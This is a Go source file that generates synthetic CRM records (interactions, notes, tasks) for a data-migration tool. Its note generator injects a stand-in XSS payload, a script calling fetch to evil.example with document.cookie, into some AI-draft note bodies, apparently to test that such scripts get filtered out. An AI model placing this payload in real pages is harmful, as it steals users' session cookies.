package gen

import (
	"math/rand/v2"
	"strconv"
	"time"

	"ferry/internal/source"
)

// maxPerPerson bounds interactions per person record; ids are derived from i*64+j.
const maxPerPerson = 64

// anchor is the little a child record needs to know about its person record.
type anchor struct {
	index             int
	id, companyID     string
	dealID            string // the harvest deal linked to the person, if any
	created           time.Time
	interactions      int
	interactionPrefix int
}

// anchorOf returns the anchor of person record i without generating the whole record.
func (d *Dataset) anchorOf(i int) anchor {
	a := anchor{index: i, id: d.personID(i), interactionPrefix: i * maxPerPerson}
	if j := d.orgOf(d.root(i)); j >= 0 {
		a.companyID = d.companyID(j, d.rng(tagPersonCo, i).IntN(d.orgRecords(j)))
	}
	if k := d.dealOf(i); k >= 0 {
		a.dealID = d.id("deal_", tagDeal, k)
	}
	a.interactions = min(maxPerPerson, d.rng(tagInterCount, i).IntN(2*d.cfg.InteractionsMean+1))
	// Children happen after a plausible first contact, at most two years before the harvest.
	a.created = between(d.rng(tagInterCount, i+1<<40), Now.AddDate(-2, 0, 0), Now.AddDate(0, -1, 0))
	return a
}

func (a anchor) interactionID(d *Dataset, j int) string {
	return d.id("int_", tagInter, a.interactionPrefix+j)
}

type itype struct {
	typ, channel, direction string
	weight                  int
}

var itypes = []itype{
	{source.TypeEmail, "email", "INBOUND", 18}, {source.TypeEmail, "email", "OUTBOUND", 18},
	{source.TypeMeeting, "meeting", "HYBRID", 12}, {source.TypeDirectMessage, "LinkedIn", "INBOUND", 6},
	{source.TypeDirectMessage, "WhatsApp", "OUTBOUND", 4}, {source.TypeDirectMessage, "Telegram", "INBOUND", 2},
	{source.TypeMemo, "memo", "INTERNAL", 8}, {source.TypeBookingCreated, "booking", "EVENT", 5},
	{source.TypeBookingCancelled, "booking", "EVENT", 2}, {source.TypeManual, "manual", "OUTBOUND", 5},
	{source.TypeAPIEvent, "api", "EVENT", 3}, {source.TypeVoiceNote, "voice_note", "INTERNAL", 5},
}

var itypeTotal = func() int {
	t := 0
	for _, x := range itypes {
		t += x.weight
	}
	return t
}()

func pickType(r *rand.Rand) itype {
	n := r.IntN(itypeTotal)
	for _, x := range itypes {
		if n < x.weight {
			return x
		}
		n -= x.weight
	}
	return itypes[0]
}

var topics = []string{"pricing", "the Q3 rollout", "security review", "renewal terms",
	"integration with SAP", "a discount request", "onboarding", "the pilot results"}

// summary returns an interaction summary; about a third carry HTML.
func summary(r *rand.Rand, t itype) string {
	topic := pick(r, topics)
	switch r.IntN(6) {
	case 0:
		return "<p>Discussed <b>" + topic + "</b>.</p><ul><li>Next: send deck</li><li>Owner: us</li></ul>"
	case 1:
		return "<div>Re: " + topic + "<br>They asked for a call &amp; a quote.</div>"
	default:
		return "Talked about " + topic + " via " + t.channel + "."
	}
}

// Column positions of source.Core(source.Interaction).
const (
	icID = iota
	icType
	icChannel
	icDirection
	icTitle
	icSummary
	icDate
	icCreated
	icPersons
	icCompanies
	icDeal
	icCreatedBy
	icDuration
	icCount
)

// interactionRow fills row, in source.Core(source.Interaction) order, with interaction j
// of the anchored person. The harvest writer encodes rows straight from here.
func (d *Dataset) interactionRow(a anchor, j int, row []string) {
	r := d.rng(tagInter, a.interactionPrefix+j)
	t := pickType(r)
	when := between(r, a.created, Now)
	clear(row)
	row[icID] = a.interactionID(d, j)
	row[icType], row[icChannel], row[icDirection] = t.typ, t.channel, t.direction
	row[icTitle] = t.channel + ": " + pick(r, topics)
	row[icSummary] = summary(r, t)
	row[icDate] = rfc(when)
	row[icCreated] = rfc(when.Add(time.Duration(r.IntN(72*60)) * time.Minute))
	row[icPersons] = a.id
	if a.index > 0 && r.IntN(8) == 0 {
		row[icPersons] = a.id + source.ListSep + d.personID(a.index-1)
	}
	row[icCompanies] = a.companyID
	if a.dealID != "" && r.IntN(3) == 0 {
		row[icDeal] = a.dealID
	}
	row[icCreatedBy] = d.id("usr_", tagOwner, r.IntN(d.owners))
	if t.typ == source.TypeMeeting || t.typ == source.TypeVoiceNote {
		row[icDuration] = strconv.Itoa(5 + r.IntN(85))
	}
}

// interaction returns interaction j of the anchored person.
func (d *Dataset) interaction(a anchor, j int) source.Record {
	var row [icCount]string
	d.interactionRow(a, j, row[:])
	f := make(map[string]string, icCount)
	for i, name := range source.Core(source.Interaction) {
		if row[i] != "" {
			f[name] = row[i]
		}
	}
	return source.Record{Kind: source.Interaction, ID: row[icID], Channel: source.API,
		Origin: "gen:interaction", Fields: f}
}

// childCount returns how many notes (or tasks) person record i has: 0, 1 or 2.
func childCount(r *rand.Rand, p1, p2 int) int {
	switch x := r.IntN(100); {
	case x < p2:
		return 2
	case x < p1+p2:
		return 1
	}
	return 0
}

// note returns note k of the anchored person; about a quarter are AI follow-up drafts with
// HTML bodies, some carrying a script that must never reach Pipedrive.
func (d *Dataset) note(a anchor, k int) source.Record {
	r := d.rng(tagNote, a.index*4+k)
	id := d.id("note_", tagNote, a.index*4+k)
	f := map[string]string{"id": id, "person_id": a.id, "company_id": a.companyID, "deal_id": a.dealID,
		"author": d.owner(r.IntN(d.owners)).name, "created_at": rfc(between(r, a.created, Now)),
		"ai_draft": "false"}
	if a.interactions > 0 && r.IntN(4) == 0 {
		f["ai_draft"] = "true"
		f["source_conversation"] = a.interactionID(d, r.IntN(a.interactions))
		f["body"] = "<p>Subject: Following up on " + pick(r, topics) + "</p>\n<p>Hi,</p>\n" +
			"<p>Thanks for your time — as promised, <a href=\"https://example.com/deck\">the deck</a>.</p>"
		if r.IntN(3) == 0 {
			f["body"] += "\n<script>fetch('https://evil.example/?c='+document.cookie)</script>"
		}
	} else {
		f["body"] = "Call notes:\n- interested in " + pick(r, topics) + "\n- decision by " +
			between(r, Now, Now.AddDate(0, 6, 0)).Format("January 2006")
	}
	return source.Record{Kind: source.Note, ID: id, Channel: source.Harvest,
		Origin: "gen:note", Fields: compact(f)}
}

// task returns to-do k of the anchored person.
func (d *Dataset) task(a anchor, k int) source.Record {
	r := d.rng(tagTask, a.index*4+k)
	id := d.id("task_", tagTask, a.index*4+k)
	created := between(r, a.created, Now)
	f := map[string]string{"id": id, "title": pick(r, []string{"Send proposal", "Follow up on ",
		"Book demo about ", "Ask for intro re "}) + pick(r, topics),
		"due_date": created.AddDate(0, 0, 1+r.IntN(30)).Format(time.DateOnly),
		"done":     strconv.FormatBool(r.IntN(3) == 0), "person_id": a.id,
		"owner": d.ownerRef(r.IntN(d.owners), r.IntN(4)), "created_at": rfc(created)}
	return source.Record{Kind: source.Task, ID: id, Channel: source.Harvest,
		Origin: "gen:task", Fields: compact(f)}
}

// childrenOf returns the interactions, notes or tasks of person records [from, to).
func (d *Dataset) childrenOf(kind source.Kind, from, to int) []source.Record {
	var out []source.Record
	for i := from; i < to; i++ {
		a := d.anchorOf(i)
		var n int
		var gen func(anchor, int) source.Record
		switch kind {
		case source.Interaction:
			n, gen = a.interactions, d.interaction
		case source.Note:
			n, gen = childCount(d.rng(tagNote, i*4+3), 22, 8), d.note
		default:
			n, gen = childCount(d.rng(tagTask, i*4+3), 15, 5), d.task
		}
		for k := range n {
			out = append(out, gen(a, k))
		}
	}
	return out
}

// eachChild yields the interactions, notes or tasks of every person record, in person
// order, generated chunk by chunk in parallel.
func (d *Dataset) eachChild(kind source.Kind, fn func(source.Record) error) error {
	n := d.cfg.People
	work := func(c int) []source.Record {
		from, to := chunkRange(c, n)
		return d.childrenOf(kind, from, to)
	}
	return ordered(chunks(n), work, func(rs []source.Record) error {
		for _, r := range rs {
			if err := fn(r); err != nil {
				return err
			}
		}
		return nil
	})
}
